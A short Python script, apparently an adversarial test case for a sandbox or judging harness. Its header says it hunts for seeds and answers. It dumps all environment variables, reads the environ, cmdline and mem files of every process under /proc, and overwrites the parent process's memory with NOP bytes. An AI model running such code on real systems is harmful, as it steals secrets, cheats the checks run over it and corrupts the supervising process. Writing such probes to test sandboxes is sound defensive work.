# /// attack
# tries = "looks for seeds and answers in the environment, the command line and the parent's memory"
# base = "blank"
# slow = true
# ///
import glob
import os

print(sorted(os.environ.items()))
for path in glob.glob("/proc/[0-9]*/*"):
    if path.rsplit("/", 1)[1] in ("environ", "cmdline", "maps", "mem", "stack", "syscall", "auxv", "io"):
        try:
            with open(path, "rb") as file:
                print(path, file.read(200))
        except OSError as error:
            print(path, error)
try:
    with open(f"/proc/{os.getppid()}/mem", "r+b") as memory:
        memory.seek(0x400000)
        memory.write(b"\x90" * 4096)
except (OSError, ValueError) as error:
    print(error)
